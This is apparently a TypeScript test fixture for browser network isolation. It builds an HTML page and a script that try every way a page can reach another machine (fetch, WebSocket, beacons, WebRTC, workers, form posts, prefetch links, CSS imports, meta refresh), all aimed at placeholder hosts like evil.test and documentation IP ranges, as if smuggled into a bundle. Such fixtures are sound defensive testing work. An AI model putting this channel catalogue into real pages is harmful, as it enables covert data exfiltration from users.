/** Addresses that lead away: by name, by number, by IPv6, by other schemes. 192.0.2.0/24, 198.51.100.0/24 and 2001:db8::/32 are for documentation and belong to nobody. */
const hosts = ['evil.test', '192.0.2.7', '198.51.100.9:8443', '[2001:db8::7]'];
const each = (make: (host: string) => string): string => hosts.map(make).join('\n');

/** What the page names, as it would stand in a connection. */
export const addresses = ['192.0.2.7', '198.51.100.9', '2001:db8::7'];

/** Every way that a page knows to reach another machine, in one. Its script is `waysOut`, from the page's own origin, as if it had been smuggled into the bundle. */
export const hostilePage = `<!doctype html><title>x</title>
${each((host) => `<link rel=preconnect href=//${host}><link rel=dns-prefetch href=//${host}><link rel=prefetch href=http://${host}/p><link rel=preload as=script href=http://${host}/l><link rel=modulepreload href=http://${host}/m>
<link rel=stylesheet href=http://${host}/s.css><link rel=icon href=http://${host}/i.ico><link rel=manifest href=http://${host}/m.json><link rel=search href=http://${host}/o.xml>
<script src=http://${host}/x.js></script><script type=module>import 'http://${host}/y.js'</script><script type=speculationrules>{"prerender":[{"urls":["http://${host}/sr"]}]}</script>
<img src=http://${host}/i.png srcset="http://${host}/i2.png 2x"><img src=//${host}/j.png><picture><source srcset=http://${host}/k></picture><video src=http://${host}/v poster=http://${host}/w autoplay></video><audio src=http://${host}/a autoplay></audio>
<iframe src=http://${host}/f></iframe><iframe srcdoc="<img src=http://${host}/sd>"></iframe><object data=http://${host}/o></object><embed src=http://${host}/e><svg><image href=http://${host}/g /><use href=http://${host}/u#x /></svg>
<style>@import "http://${host}/c.css"; @font-face{font-family:f;src:url(http://${host}/f.woff2)} body{background:url(http://${host}/b.png);font-family:f}</style><div style="background:url(http://${host}/d.png)">x</div>
<form id=form action=http://${host}/form method=post><input name=q value=1></form><a id=ping href=http://${host}/a ping=http://${host}/ping>x</a><a id=down href=http://${host}/d download>x</a>
<a href="ftp://${host}/x">x</a><base href=http://${host}/>`)}
<script src=/ways.js></script>
${each((host) => `<meta http-equiv=refresh content="1;url=http://${host}/refresh">`)}`;

export const waysOut = `for (const host of ${JSON.stringify(hosts)}) {
  const ways = [
    () => fetch('http://' + host + '/fetch', { mode: 'no-cors' }), () => new WebSocket('ws://' + host + '/ws'), () => new EventSource('http://' + host + '/es'), () => navigator.sendBeacon('http://' + host + '/beacon', 'x'),
    () => { const x = new XMLHttpRequest(); x.open('GET', 'http://' + host + '/xhr'); x.send(); }, () => new Worker('http://' + host + '/w.js'), () => new SharedWorker('http://' + host + '/sw.js'), () => import('http://' + host + '/im.js'),
    () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host + ':3478' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }, () => new WebTransport('https://' + host + '/wt'),
    () => { new Image().src = 'http://' + host + '/img'; }, () => open('http://' + host + '/open'), () => document.getElementById('ping').click(), () => document.getElementById('form').submit(), () => navigator.serviceWorker.register('http://' + host + '/s.js'),
  ];
  for (const way of ways) try { Promise.resolve(way()).catch(() => 0); } catch {}
}`;
